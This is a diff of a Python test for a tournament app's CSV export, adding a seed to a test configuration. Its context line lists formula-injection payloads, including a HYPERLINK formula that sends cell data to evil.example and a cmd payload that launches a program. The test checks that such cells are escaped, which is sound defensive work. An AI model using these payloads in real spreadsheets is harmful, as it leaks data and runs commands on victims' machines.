@@ -16,7 +16,7 @@ HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Prize")', "+1+cmd|' /C calc'!
 
 
 def test_cells_that_a_spreadsheet_would_run_are_escaped_and_the_rest_kept() -> None:
-    t = Tournament(id="t", config=Config(name="Cup", table_sizes=(4,), rounds=1), organiser_hash="o")
+    t = Tournament(id="t", config=Config(name="Cup", table_sizes=(4,), rounds=1, seed=5), organiser_hash="o")
     names = [*HOSTILE, "ana", "Bea-Maria", "o'Neil"]
     for i, name in enumerate(names):
         entrant = t.register(f"p{i}", token_hash=f"h{i}")
